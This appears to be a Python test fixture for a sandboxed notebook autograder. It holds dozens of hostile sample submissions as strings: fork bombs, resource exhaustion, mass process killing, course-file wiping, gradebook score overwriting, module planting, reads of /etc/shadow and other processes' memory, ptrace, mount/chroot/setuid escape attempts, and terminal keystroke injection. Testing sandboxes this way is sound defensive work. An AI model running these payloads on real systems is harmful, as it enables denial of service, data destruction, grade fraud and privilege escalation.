"""Attacks on the machine and on others: files, processes, memory, the network, the sandbox's walls.

Some can't be seen from outside. Those give right answers if they get what they want, so that points
tell that they have succeeded. `@COURSE@` stands for the course's folder, `@SECRET@` for a file that
holds a secret beside it.
"""

# Left for whoever comes next, and looked for: by several students, since they are graded at once.
LEFT = """
import glob, os
places = ["/dev", "/tmp", "/dev/shm", "/home/student", "/home/student/work", "/kernel", "/kernels"]
places += ["/run", "/var/tmp", "/assignment", "/data", "/proc", "/dev/mqueue", "/dev/pts"]
found = [path for place in places for path in glob.glob(f"{place}/left-*")]
for place in places:
    try:
        open(f"{place}/left-by-one", "w").write("for the next one")
    except OSError:
        pass
keys = open("/proc/keys").read() if os.path.exists("/proc/keys") else ""
KEYS = {"x86_64": (248, 249, 250), "aarch64": (217, 218, 219)}.get(os.uname().machine)
rings = (-2, -3, -4, -5) if KEYS else ()  # the keyrings of process, session and user
found += [ring for ring in rings if libc.syscall(KEYS[2], 10, ring, b"user", b"left-key", 0) > 0]
for ring in rings:
    libc.syscall(KEYS[0], b"user", b"left-key", b"x", 1, ring)
done = lambda: found
"""

# What an attack that got what it wanted answers.
REWARD = """
class Numbers:
    def double(self, a):
        return 2 * a if done() else None
"""
# The kernel's folder: the one in which the sockets are that it shares with the grader.
SHARED = """
import os, time
from ipykernel.kernelapp import IPKernelApp
os.chdir(os.path.dirname(IPKernelApp.instance().abs_connection_file))
"""
LIBC = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
"""

_REWARDED = {f"something is left for the next student, {n} of 4": LEFT for n in range(1, 5)} | {
    "the network is opened": """
import socket
reached = []
for host in ("127.0.0.1", "1.1.1.1", "169.254.169.254", "::1"):
    for port in (22, 53, 80, 443, 8888):
        try:
            socket.create_connection((host, port), timeout=0.2)
            reached.append(host)
        except OSError:
            pass
done = lambda: reached
""",
    "other programs' sockets without a file are found": """
import os, socket
reached = []
for line in open("/proc/net/unix") if os.path.exists("/proc/net/unix") else ():
    name = line.split()[-1]
    if name.startswith("@"):
        try:
            socket.socket(socket.AF_UNIX).connect("\\0" + name[1:])
            reached.append(name)
        except OSError:
            pass
done = lambda: reached
""",
    "other kernels, courses and homes are looked for": """
import glob, os
seen = [path for pattern in ("/tmp/kernel-*", "/home/*", "/root/*", "/var/*", "/run/*", "/mnt/*")
        for path in glob.glob(pattern) if not path.startswith("/home/student")]
own = os.environ.get("HOME")
from ipykernel.kernelapp import IPKernelApp
mine = os.path.dirname(IPKernelApp.instance().abs_connection_file)
import sys
seen = [path for path in seen if path != mine and not sys.base_prefix.startswith(path)
        and not sys.prefix.startswith(path)]
done = lambda: seen
""",
    "a secret beside the course is read": """
read = []
for path in ("@SECRET@", "/proc/1/root@SECRET@", "/proc/self/root/../..@SECRET@", "/etc/passwd",
             "/etc/shadow", "/proc/1/cwd/etc/passwd", "/proc/self/fd/3/../../etc/passwd"):
    try:
        read.append(open(path).read())
    except OSError:
        pass
done = lambda: read
""",
    "the grader's environment is looked for": """
import glob, os
texts = [str(dict(os.environ))]
for path in glob.glob("/proc/[0-9]*/environ"):
    try:
        texts.append(open(path).read())
    except OSError:
        pass
done = lambda: any("HOSTILE_" + "SECRET" in text for text in texts)
""",
    "the memory of other processes is read": """
import glob, os
read = []
for path in glob.glob("/proc/[0-9]*/mem"):
    if path != f"/proc/{os.getpid()}/mem" and path != "/proc/self/mem":
        try:
            with open(f"{os.path.dirname(path)}/maps") as maps:
                start = int(maps.readline().split("-")[0], 16)
            with open(path, "r+b", buffering=0) as memory:
                memory.seek(start)
                read.append(memory.read(4096))
        except (OSError, ValueError):
            pass
done = lambda: any(read)
""",
    "other processes are traced": """
attached = []
for pid in range(1, 500):
    if pid != os.getpid() and libc.ptrace(16, pid, 0, 0) == 0:
        attached.append(pid)
done = lambda: attached
""",
    "new namespaces and mounts": """
def inside():
    gained = libc.unshare(0x10000000 | 0x00020000) == 0
    for target in (b"/tmp", b"/home/student", b"/usr"):
        gained = libc.mount(b"tmpfs", target, b"tmpfs", 0, b"size=90%") == 0 or gained
    return gained
child = os.fork()
if child == 0:
    os._exit(1 if inside() else 0)
gained = os.waitpid(child, 0)[1]
done = lambda: gained
""",
    "walls are mounted away": """
gained = [libc.mount(None, path, None, 32 | 4096, None) == 0 for path in (b"/", b"/usr", b"/proc")]
gained += [libc.umount2(path, 2) == 0 for path in (b"/usr", b"/proc", b"/home/student/work")]
gained += [libc.chroot(b"/proc/1/root") == 0, libc.setuid(0) == 0, libc.sethostname(b"x", 1) == 0]
done = lambda: any(gained)
""",
    "another user's rights are asked for": """
import subprocess
outputs = []
for command in (["su", "-c", "id -u"], ["sudo", "-n", "id", "-u"], ["pkexec", "id", "-u"]):
    try:
        found = subprocess.run(command, capture_output=True, text=True, timeout=2)
        outputs.append(found.stdout)
    except Exception:
        pass
done = lambda: "0\\n" in outputs
""",
    "limits are raised": """
import resource
raised = []
for kind in (resource.RLIMIT_DATA, resource.RLIMIT_FSIZE, resource.RLIMIT_CORE):
    try:
        resource.setrlimit(kind, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        raised.append(kind)
    except (OSError, ValueError):
        pass
done = lambda: raised
""",
    "devices and settings of the machine": """
import glob
opened = []
paths = ["/dev/mem", "/dev/kmsg", "/dev/sda", "/dev/vda", "/proc/sys/kernel/core_pattern"]
paths += ["/proc/sys/vm/overcommit_memory", "/proc/sysrq-trigger", "/sys/power/state"]
for path in paths + glob.glob("/sys/fs/cgroup/*"):
    try:
        with open(path, "r+b", buffering=0):
            opened.append(path)
    except OSError:
        pass
done = lambda: opened
""",
    "shared memory beyond the limit": """
import mmap, time
held = mmap.mmap(-1, 2**31)
for at in range(0, len(held), 2**24):
    held[at : at + 2**24] = bytes(2**24)
time.sleep(1)
done = lambda: len(held)
""",
    "files without a name beyond the limit": """
import os, time
held = [os.memfd_create(f"hoard-{number}") for number in range(8)]
block = bytes(2**24)
for number in held:
    for _ in range(15):
        os.write(number, block)
time.sleep(1)
done = lambda: sum(os.fstat(number).st_size for number in held) > 1500 * 2**20
""",
    "files in every place beyond the limit": """
import os
written, block = {}, bytes(2**24)
for folder in ("/tmp", "/dev/shm", "/dev", "/run", "/var/tmp", "/", "/home/student", "/kernels"):
    written[folder] = 0
    for number in range(3):
        try:
            with open(f"{folder}/hoard-{number}", "wb") as file:
                for _ in range(12):
                    written[folder] += file.write(block)
        except OSError:
            pass
done = lambda: max(written.values()) > 2**29
""",
    "a hundred thousand files": """
import os
made = 0
try:
    for made in range(10**5):
        os.close(os.open(f"/tmp/{made}", os.O_CREAT | os.O_WRONLY))
except OSError:
    pass
done = lambda: made > 50_000
""",
    "the folder of the sockets is filled": SHARED
    + """
written = 0
for number in range(20):
    try:
        with open(f"hoard-{number}", "wb") as file:
            for _ in range(10):
                written += file.write(bytes(2**20))
    except OSError:
        break
    time.sleep(0.05)
done = lambda: written > 50 * 2**20
""",
}

ATTACKS = {
    "files of the course are changed": """
import glob, os, shutil
open_ = open
for path in glob.glob("@COURSE@/**/*", recursive=True) + ["@COURSE@/gradebook.db"]:
    try:
        os.remove(path)
    except Exception:
        pass
    try:
        open_(path, "w").write("")
    except Exception:
        pass
shutil.rmtree("@COURSE@", ignore_errors=True)
""",
    "marks are written into the gradebook": """
import sqlite3, glob
for path in glob.glob("/**/gradebook.db", recursive=True) + ["@COURSE@/gradebook.db"]:
    try:
        base = sqlite3.connect(path)
        base.execute("update grade set manual_score = 99")
        base.commit()
    except Exception:
        pass
""",
    "a start-up file is planted": """
import os
for home in (os.path.expanduser("~"), "/root", os.environ.get("IPYTHONDIR", "/root/.ipython")):
    for folder in (home + "/.ipython/profile_default/startup", home + "/profile_default/startup"):
        try:
            os.makedirs(folder, exist_ok=True)
            open(folder + "/planted.py", "w").write("class Numbers: pass")
        except OSError:
            pass
""",
    "modules are planted": """
import site, sys
for folder in [*sys.path, *site.getsitepackages(), "@COURSE@", "/usr/lib/python3", "/tmp"]:
    for name in ("planted_module.py", "sitecustomize.py", "planted.pth"):
        try:
            open((folder or ".") + "/" + name, "w").write("raise SystemExit")
        except OSError:
            pass
""",
    "installed modules are changed": """
import importlib.util, os, sys, sysconfig
for name in ("json", "random", "ipykernel", "IPython", "zmq", "math"):
    found = importlib.util.find_spec(name)
    for path in (found.origin, found.cached):
        try:
            os.chmod(os.path.dirname(path), 0o777)
            open(path, "ab").write(b"planted = 1")
        except (OSError, TypeError):
            pass
""",
    "the assignment's own files are changed": """
import glob, os
for path in glob.glob("*") + glob.glob("/data/*") + glob.glob("/assignment/*"):
    for action in (os.remove, lambda path: open(path, "w"), lambda path: os.rename(path, "x")):
        try:
            action(path)
        except OSError:
            pass
""",
    "processes are left behind": """
import os, subprocess, sys
code = "import time; time.sleep(3600)"
for _ in range(3):
    subprocess.Popen([sys.executable, "-c", code], start_new_session=True, env={})
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execve(sys.executable, [sys.executable, "-c", code], {})
    os._exit(0)
""",
    "processes that nobody waits for": """
import os
for _ in range(150):
    if os.fork() == 0:
        os._exit(0)
""",
    "everything in sight is killed": """
import os, signal
for pid in range(1, 70000):
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
for send in (os.kill, os.killpg):
    for pid in (-1, 0, os.getppid()):
        try:
            send(pid, signal.SIGKILL)
        except OSError:
            pass
""",
    "memory is eaten": """
hoard = []
while True:
    hoard.append(bytearray(2**26))
""",
    "a fork bomb": """
import os
while True:
    os.fork()
""",
    "threads by the thousand": """
import threading, time
while True:
    threading.Thread(target=time.sleep, args=(3600,)).start()
""",
    "the disk is filled": """
with open("big", "wb") as file:
    while True:
        file.write(bytes(2**24))
""",
    "output without end": """
import sys
for _ in range(400):
    print("x" * 10**5)
""",
    "output in lines of ten million characters, and to the terminal": """
import fcntl, os, sys, termios
print("x" * 10**7, "\\b" * 10**6, "\\r" * 10**6, "\\x1b[1;31m" * 10**5, "\\x1b]0;owned\\x07")
for number in (0, 1, 2):
    try:
        os.write(number, b"\\x1b[2J\\x1b]0;owned\\x07")
        fcntl.ioctl(number, termios.TIOCSTI, b"x")
    except OSError:
        pass
""",
    "the folder of the sockets is left in a mess": SHARED
    + """
os.makedirs("kept/inner", exist_ok=True)
open("kept/inner/planted", "w").write("x")
for name in ("kernel.json", "kernel-1", "kernel-3"):
    try:
        os.rename(name, name + ".old")
        os.symlink("@SECRET@", name)
    except OSError:
        pass
try:
    os.link("/usr/bin/env", "planted-link")
except OSError:
    pass
os.chmod("kept", 0)
os.chmod(".", 0o500)
""",
    "folders a thousand deep": SHARED
    + """
for _ in range(1500):
    os.mkdir("d")
    os.chdir("d")
""",
    "the kernel's files are made unreadable": """
import os
os.makedirs("/tmp/kept/inner", exist_ok=True)
os.chmod("/tmp/kept", 0)
os.chmod(os.path.expanduser("~"), 0)
os.abort()
""",
} | {name: LIBC + code + REWARD for name, code in _REWARDED.items()}
